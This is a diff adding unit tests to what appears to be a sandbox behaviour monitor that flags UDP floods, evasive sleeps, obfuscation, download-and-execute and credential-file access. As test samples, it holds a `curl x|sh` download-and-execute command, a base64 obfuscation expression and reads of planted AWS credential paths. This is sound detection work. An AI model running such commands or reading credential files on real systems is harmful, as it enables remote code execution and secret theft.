@@ -446,3 +446,56 @@ def test_sitecustomize_cuts_python_sleeps_and_records_what_was_asked(tmp_path):
     cut = [r for r in map(json.loads, audit.read_text().splitlines()) if r["event"] == "codeeval.sleep"]
     assert [r["args"] for r in cut] == [[3600.0, "time.sleep"], [600.0, "asyncio.sleep"], [900.0, "threading.Timer"]]
     assert found(parse_audit(cut))["evasion"].severity == Severity.MEDIUM
+
+
+def test_udp_datagrams_seen_by_the_trace_and_caught_by_the_sink_count_once():
+    """60 datagrams, each seen as a traced sendto and again as a caught datagram, stay under the flood line."""
+    caught = [Event("sink", {"proto": "udp", "port": 9, "bytes": 512, "dst": "198.51.100.1:9"}, None, "sink")
+              for _ in range(60)]
+    assert "network.flood" not in found(udp_sends(60) + caught)
+    assert "network.flood" in found(udp_sends(60) + caught * 2)  # 120 caught: the larger count speaks
+
+
+def test_caught_udp_payloads_become_sink_events():
+    from codeeval.execution.monitor import parse_result
+
+    events = parse_result({"udp": [{"dst": "198.51.100.1:9", "port": 9, "bytes": 3, "payload_b64": "YWJj"}]})
+    assert [(e.kind, e.detail["proto"], e.detail["port"]) for e in events] == [("sink", "udp", 9)]
+
+
+def test_an_absolute_deadline_sleep_is_not_read_as_a_duration():
+    """Python's time.sleep(0.5) is clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, {tv_sec=6033, ...}): the
+    seconds are a clock reading, not a wait (it flagged every sleeping program as evasion)."""
+    from codeeval.execution.monitor import parse_strace
+
+    line = ('7 12:00:00.000000 clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, {tv_sec=6033, tv_nsec=700000000}, '
+            'NULL) = 0')
+    assert [e for e in parse_strace([line]) if e.kind == "sleep"] == []
+    relative = '7 12:00:00.000000 clock_nanosleep(CLOCK_REALTIME, 0, {tv_sec=3600, tv_nsec=0}, 0x7ffd) = 0'
+    assert [e.detail["seconds"] for e in parse_strace([relative]) if e.kind == "sleep"] == [3600.0]
+
+
+def test_a_compiled_type_annotation_is_not_obfuscation():
+    """pydantic compiles `Literal['utf8', 'base64', 'hex']`: the marker word is data inside a string."""
+    from codeeval.execution.behaviours import _inert_expression
+
+    assert _inert_expression("Literal['utf8', 'base64', 'hex']")
+    assert _inert_expression("Optional[Dict[str, List[int]]]")
+    assert not _inert_expression("__import__('base64').b64decode('aWQ=')")
+    assert not _inert_expression("import os")  # a statement, not an expression
+
+
+def test_the_sink_payload_running_is_download_execute_and_aws_sdk_reading_its_file_is_not_high():
+    from codeeval.execution.behaviours import SINK_PAYLOAD_MARK, RunInfo, classify
+    from codeeval.execution.honeytokens import generate
+
+    ran = classify([], None, RunInfo(stdout=f"{SINK_PAYLOAD_MARK}\n", sources=("import os\nos.system('curl x|sh')",)))
+    assert {b.id: b.severity for b in ran}["download_execute"] == Severity.CRITICAL
+    written = classify([], None, RunInfo(stdout=f"{SINK_PAYLOAD_MARK}\n", sources=(f"print('{SINK_PAYLOAD_MARK}')",)))
+    assert "download_execute" not in {b.id for b in written}  # printed by the sample itself
+    tokens = generate()
+    read = [Event("open", {"path": tokens.paths["aws_credentials"], "flags": "O_RDONLY"}, 5, "strace"),
+            Event("open", {"path": tokens.paths["aws_credentials"].replace("credentials", "config"), "flags": "O_RDONLY"}, 5, "strace")]
+    sdk = {b.id: b.severity for b in classify(read, tokens, RunInfo(sources=("import boto3\ns3 = boto3.client('s3')",)))}
+    named = {b.id: b.severity for b in classify(read, tokens, RunInfo(sources=("open('/home/sandbox/.aws/credentials')",)))}
+    assert sdk.get("secrets.access") == Severity.LOW and named["secrets.access"] == Severity.HIGH
